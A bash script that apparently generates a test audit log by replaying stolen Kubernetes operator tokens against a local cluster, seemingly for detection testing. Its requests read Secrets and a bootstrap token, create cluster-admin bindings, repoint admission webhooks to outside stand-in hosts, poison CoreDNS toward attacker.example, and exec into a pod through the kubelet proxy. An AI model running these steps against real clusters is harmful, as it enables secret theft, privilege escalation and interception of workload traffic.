#!/bin/bash
# ATTACKS with operators' stolen pod-bound tokens (minted by node-1's kubelet in
# operators-setup.sh, the same tokens operators.sh used minutes before, so every request below
# carries the operator pod's claims in user.extra). Everything here is an attack; the source is
# an outside address (203.0.113.x, X-Forwarded-For) with curl or python user agents, except in
# part D, where two tokens are replayed from another pod's in-cluster address (10.244.0.147, the
# storefront pod) — the same token from two networks. Runs after operators.sh in the same
# cluster. Its audit log is testdata/apiserver-1.36-operator-token-theft.log.
. "$(dirname "$0")/oplib.sh"
set -x
CAINJ=$(optok cainjector); ARGO=$(optok argocd); KYV=$(optok kyverno); PROM=$(optok prometheus)
PY=python-requests/2.31.0; CURL=curl/8.5.0
W=/apis/admissionregistration.k8s.io/v1
crb() { jq -cn --arg n "$1" --arg u "$2" '{apiVersion:"rbac.authorization.k8s.io/v1",kind:"ClusterRoleBinding",metadata:{name:$n},
  roleRef:{apiGroup:"rbac.authorization.k8s.io",kind:"ClusterRole",name:"cluster-admin"},subjects:[{apiGroup:"rbac.authorization.k8s.io",kind:"User",name:$u}]}'; }
# ws TOKEN XFF UA PATH: a websocket upgrade through the apiserver (HTTP/1.1, as kubectl exec and
# websocket tools send it); the kubelet stand-in answers 101 and one frame.
ws() {
  curl -sk --http1.1 --max-time 3 -o /dev/null -w "%{http_code} GET(ws) $4\n" -A "$3" -H "Authorization: Bearer $1" -H "X-Forwarded-For: $2" \
    -H "Connection: Upgrade" -H "Upgrade: websocket" -H "Sec-WebSocket-Version: 13" -H "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==" \
    -H "Sec-WebSocket-Protocol: v4.channel.k8s.io" "https://127.0.0.1:6443$4"
}

# A. cert-manager cainjector's token, from 203.0.113.45 (python): it may read every Secret and
#    patch every webhook configuration.
IP=203.0.113.45
req "$CAINJ" $IP $PY GET /api/v1/secrets                                                   # list secrets cluster-wide: 200
req "$CAINJ" $IP $PY GET /api/v1/namespaces/kube-system/secrets/bootstrap-token-7k2p9x     # read the bootstrap token: 200
req "$CAINJ" $IP $PY POST /apis/rbac.authorization.k8s.io/v1/clusterrolebindings "$(crb cert-manager-cainjector-ext backdoor-admin)"   # cluster-admin: 403
req "$CAINJ" $IP $PY PATCH $W/mutatingwebhookconfigurations/istio-sidecar-injector \
  '[{"op":"remove","path":"/webhooks/1/clientConfig/service"},{"op":"add","path":"/webhooks/1/clientConfig/url","value":"https://203.0.113.45:8443/inject"}]' application/json-patch+json   # webhook to an outside URL: 200
req "$CAINJ" $IP $PY PATCH /api/v1/namespaces/kube-system/configmaps/coredns '{"data":{"Corefile":".:53 {\n    forward . 203.0.113.53\n}\n"}}' application/merge-patch+json   # CoreDNS: 403

# B. Argo CD application controller's token, from 203.0.113.77 (curl): it may do anything.
IP=203.0.113.77
req "$ARGO" $IP $CURL GET /api/v1/secrets                                                  # 200
req "$ARGO" $IP $CURL GET /api/v1/namespaces/billing/secrets/invoices-db                   # 200
req "$ARGO" $IP $CURL POST /apis/rbac.authorization.k8s.io/v1/clusterrolebindings "$(crb argocd-manager-ext ext-admin)"   # cluster-admin for a new user: 201
OUT=$ST/theft-cm.json req "$ARGO" $IP $CURL GET /api/v1/namespaces/kube-system/configmaps/coredns
CF=$(jq -r '.data.Corefile' "$ST/theft-cm.json")
# CoreDNS poisoned: a hosts block for an app's service name, upstream to an outside resolver (merge patch) ...
CF1=$(sed -e 's#^    ready#    ready\n    hosts {\n       203.0.113.77 storefront.shop.svc.cluster.local\n       fallthrough\n    }#' -e 's#forward . /etc/resolv.conf#forward . 203.0.113.53#' <<<"$CF")
req "$ARGO" $IP $CURL PATCH /api/v1/namespaces/kube-system/configmaps/coredns "$(jq -cn --arg c "$CF1" '{data:{Corefile:$c}}')" application/merge-patch+json   # 200
# ... then a rewrite of billing's names to the attacker's domain (update)
OUT=$ST/theft-cm.json req "$ARGO" $IP $CURL GET /api/v1/namespaces/kube-system/configmaps/coredns
CF2=$(sed 's#^    errors#    errors\n    rewrite name regex (.*)\\.billing\\.svc\\.cluster\\.local {1}.billing.attacker.example#' <<<"$CF1")
req "$ARGO" $IP $CURL PUT /api/v1/namespaces/kube-system/configmaps/coredns "$(jq -c --arg c "$CF2" '.data.Corefile=$c | del(.metadata.managedFields)' "$ST/theft-cm.json")"   # 200

# C. Prometheus's token, from 203.0.113.120: nodes/proxy get lets a websocket exec through the
#    kubelet API (GET, upgraded); run (POST, verb create) is refused; secrets are refused.
IP=203.0.113.120
OUT=$ST/theft-pods.json req "$PROM" $IP $PY GET /api/v1/namespaces/kube-system/pods        # 200 (it may list pods)
POD=$(jq -r '[.items[] | select(.metadata.name|startswith("coredns"))][0].metadata.name // "coredns"' "$ST/theft-pods.json")
ws "$PROM" $IP $PY "/api/v1/nodes/node-1/proxy/exec/kube-system/$POD/coredns?command=id&output=1&error=1"   # 101
req "$PROM" $IP $PY POST "/api/v1/nodes/node-1/proxy/run/kube-system/$POD/coredns?cmd=id"  # 403
req "$PROM" $IP $PY GET /api/v1/secrets                                                    # 403

# D. The same tokens from another pod's in-cluster address (10.244.0.147): the cainjector's with
#    its own user agent reading one app Secret, Argo CD's with kubectl listing kube-system's.
req "$CAINJ" 10.244.0.147 "${OP_UA[cainjector]}" GET /api/v1/namespaces/billing/secrets/invoices-db   # 200
req "$ARGO" 10.244.0.147 "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350" GET /api/v1/namespaces/kube-system/secrets   # 200

# E. Kyverno admission controller's token, from 203.0.113.91 (python): secrets and RBAC refused;
#    a new look-alike webhook pointing outside; last, its own validating webhook turned into a
#    secrets interceptor: rules on secrets, failurePolicy Fail, namespaceSelector removed, an
#    outside URL (after this every Secret write in the cluster fails closed).
IP=203.0.113.91
req "$KYV" $IP $PY GET /api/v1/secrets                                                     # 403
req "$KYV" $IP $PY GET /api/v1/namespaces/kube-system/secrets/bootstrap-token-7k2p9x      # 403
req "$KYV" $IP $PY POST /apis/rbac.authorization.k8s.io/v1/clusterrolebindings "$(crb kyverno-ext backdoor-admin)"   # 403
req "$KYV" $IP $PY POST $W/mutatingwebhookconfigurations "$(jq -cn '{apiVersion:"admissionregistration.k8s.io/v1",kind:"MutatingWebhookConfiguration",
  metadata:{name:"kyverno-verify-mutating-webhook-cfg",labels:{"webhook.kyverno.io/managed-by":"kyverno"}},
  webhooks:[{name:"monitor-webhooks.kyverno.svc",clientConfig:{url:"https://203.0.113.91:8443/mutate"},rules:[{apiGroups:[""],apiVersions:["v1"],operations:["CREATE"],resources:["pods"],scope:"*"}],
    failurePolicy:"Ignore",sideEffects:"None",admissionReviewVersions:["v1"],reinvocationPolicy:"IfNeeded",timeoutSeconds:5}]}')"   # new webhook, outside URL: 201
OUT=$ST/theft-kyv.json req "$KYV" $IP $PY GET $W/validatingwebhookconfigurations/kyverno-resource-validating-webhook-cfg
req "$KYV" $IP $PY PUT $W/validatingwebhookconfigurations/kyverno-resource-validating-webhook-cfg "$(jq -c '
  .webhooks[0].rules += [{apiGroups:[""],apiVersions:["v1"],operations:["CREATE","UPDATE"],resources:["secrets"],scope:"*"}]
  | .webhooks[0].failurePolicy = "Fail" | .webhooks[0].timeoutSeconds = 5 | del(.webhooks[0].namespaceSelector)
  | .webhooks[0].clientConfig = {url:"https://203.0.113.91/validate"} | del(.metadata.managedFields)' "$ST/theft-kyv.json")"   # 200
sleep 3
